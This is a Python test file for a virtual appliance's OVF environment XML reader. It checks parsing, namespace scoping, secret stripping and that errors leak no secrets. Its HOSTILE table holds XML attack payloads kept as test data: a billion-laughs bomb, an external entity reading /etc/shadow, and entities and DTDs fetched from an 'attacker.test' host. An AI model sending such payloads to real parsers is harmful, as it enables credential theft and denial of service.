"""The reader of OVF environments against what hosts print and against hostile documents."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from postkeep_appliance.guestinfo import environment
from postkeep_appliance.guestinfo.environment import BadEnvironment

from tests.support.vmware import full, ovf_environment

ROOT = (
    'xmlns="http://schemas.dmtf.org/ovf/environment/1" xmlns:oe="http://schemas.dmtf.org/ovf/environment/1"'
)


def document(body: str, head: str = "") -> bytes:
    return f"{head}<Environment {ROOT}>{body}</Environment>".encode()


def test_what_vcenter_prints() -> None:
    found = environment.read(ovf_environment({"hostname": "mail.example.com", "address": ""}))
    assert found.properties == {full("hostname"): "mail.example.com", full("address"): ""}
    assert not found.repeated


def test_blanks_and_nul_around_it() -> None:
    found = environment.read(b"\n \0" + ovf_environment({"hostname": "a.example"}) + b"\n\0\n")
    assert found.properties == {full("hostname"): "a.example"}


def test_entities_of_xml_itself_and_letters_of_every_script() -> None:
    found = environment.read(ovf_environment({"administrator_password": "<&\"'> пароль 密碼"}))
    assert found.properties[full("administrator_password")] == "<&\"'> пароль 密碼"


def test_utf_16() -> None:
    text = ovf_environment({"hostname": "mail.example.com"}).decode().replace("UTF-8", "UTF-16")
    assert environment.read(text.encode("utf-16")).properties[full("hostname")] == "mail.example.com"


def test_a_sibling_s_properties_are_not_ours() -> None:
    sibling = '<PropertySection><Property oe:key="k" oe:value="theirs"/></PropertySection>'
    ours = '<PropertySection><Property oe:key="k" oe:value="ours"/></PropertySection>'
    for body in (
        ours + f'<Entity oe:id="b">{sibling}</Entity>',
        f'<Entity oe:id="b">{sibling}</Entity>' + ours,
    ):
        assert environment.read(document(body)).properties == {"k": "ours"}
    assert environment.read(document(f"<Entity>{sibling}</Entity>")).properties == {}


def test_a_repeated_key_is_told() -> None:
    one, two = ('<Property oe:key="k" oe:value="1"/>', '<Property oe:key="k" oe:value="2"/>')
    found = environment.read(document(f"<PropertySection>{one}{two}</PropertySection>"))
    assert found.repeated == {"k"}


def test_attributes_and_elements_of_other_namespaces_do_not_count() -> None:
    body = (
        '<PropertySection xmlns:x="urn:x"><Property key="a" value="1"/><x:Property oe:key="b" oe:value="1"/>'
        '<Property x:key="c" x:value="1"/><Property oe:value="1"/></PropertySection>'
    )
    assert environment.read(document(body)).properties == {}


BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(b)} "{f"&{chr(b - 1)};" * 10}">' for b in range(98, 107))
    + "]>"
)
HOSTILE = {
    "billion laughs": document("&j;", BILLION_LAUGHS),
    "external entity": document("&x;", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/shadow">]>'),
    "parameter entity": document("", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/x">%p;]>'),
    "external DTD": document("", '<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd">'),
    "empty DTD": document("", "<!DOCTYPE Environment>"),
    "default attribute from a DTD": document(
        "<PropertySection><Property/></PropertySection>",
        '<!DOCTYPE Environment [<!ATTLIST Property oe:key CDATA "guestinfo.postkeep.root_password">]>',
    ),
    "undefined entity": document("&nbsp;"),
    "too deep": document("<a>" * 100 + "</a>" * 100),
    "too many elements": document("<a/>" * 20_000),
    "too long": document(" " * (300 << 10)),
    "unclosed": f"<Environment {ROOT}><PropertySection>".encode(),
    "two roots": document("") + document(""),
    "a repeated attribute": document('<PropertySection><Property oe:key="a" oe:key="b"/></PropertySection>'),
    "an unbound prefix": document('<PropertySection><Property zz:key="a"/></PropertySection>'),
    "an odd encoding": b'<?xml version="1.0" encoding="UTF-7"?>' + document(""),
    "an encoding that is no text": b'<?xml version="1.0" encoding="base64"?>' + document(""),
    "a wrong octet": document("").replace(b"</", b"\xff</"),
    "a NUL inside": document("\0"),
    "another document": b"<html/>",
    "the same name of no namespace": b"<Environment/>",
    "null": b"null",
    "nothing": b"",
    "blanks": b" \n",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile(name: str) -> None:
    for use in (environment.read, lambda one: environment.without(one, ["k"])):
        if name in ("another document", "the same name of no namespace") and use is not environment.read:
            continue  # there is nothing to take out, and nothing to refuse
        with pytest.raises(BadEnvironment) as caught:
            use(HOSTILE[name])
        assert "shadow" not in str(caught.value)


def test_a_refusal_quotes_nothing_of_the_document() -> None:
    broken = ovf_environment({"root_password": "hunter2hunter2"}).replace(b"</Environment>", b"")
    with pytest.raises(BadEnvironment) as caught:
        environment.read(broken)
    assert "hunter2" not in str(caught.value)
    assert caught.value.__cause__ is None
    assert caught.value.__suppress_context__


def test_without() -> None:
    values = {"hostname": "a.example", "root_password": "geheim & <gut>", "note.other": "x"}
    cleaned = environment.without(ovf_environment(values), [full("root_password")])
    assert b"geheim" not in cleaned
    assert environment.read(cleaned).properties == {
        full("hostname"): "a.example",
        full("root_password"): "",
        "note.other": "x",
    }
    assert b"VM Network" in cleaned  # the rest of it stays
    assert b"vm-94765" in cleaned


def test_without_takes_every_copy_of_a_secret() -> None:
    body = (
        '<PropertySection><Property oe:key="k" oe:value="s3cret1"/><Property oe:key="k" oe:value=""/>'
        '<Property oe:key=" k "><Value oe:value="s3cret2"/>s3cret3</Property></PropertySection>'
        '<Entity oe:id="b"><PropertySection><Property oe:key="k" oe:value="s3cret4"/></PropertySection></Entity>'
    )
    assert environment.holds(document(body), ["k"])
    cleaned = environment.without(document(body), ["k"])
    assert b"s3cret" not in cleaned
    assert not environment.holds(cleaned, ["k"])


def test_the_empty_one() -> None:
    assert environment.read(environment.empty()).properties == {}


@given(st.binary(max_size=2000))
def test_any_octets_are_read_or_refused(octets: bytes) -> None:
    try:
        found = environment.read(octets)
    except BadEnvironment:
        return
    assert isinstance(found, environment.Environment)


@given(st.integers(0, 1500), st.binary(min_size=1, max_size=8))
def test_a_document_with_damage_is_read_or_refused(place: int, damage: bytes) -> None:
    whole = ovf_environment({"hostname": "a.example", "root_password": "geheim12"})
    broken = whole[:place] + damage + whole[place + len(damage) :]
    try:
        environment.read(broken)
        cleaned = environment.without(broken, [full("root_password")])
    except BadEnvironment:
        return
    assert not environment.read(cleaned).properties.get(full("root_password"))


LETTERS = st.characters(exclude_categories=["Cc", "Cs", "Cn"], exclude_characters="￾￿")


@given(
    st.dictionaries(st.sampled_from(["hostname", "domain", "root_password"]), st.text(LETTERS, max_size=40))
)
def test_what_is_written_is_read(values: dict[str, str]) -> None:
    octets = ovf_environment(values)
    found = environment.read(octets).properties
    assert found == {full(name): value for name, value in values.items()}
    cleaned = environment.read(environment.without(octets, [full("root_password")])).properties
    assert cleaned == {key: "" if key.endswith("root_password") else value for key, value in found.items()}
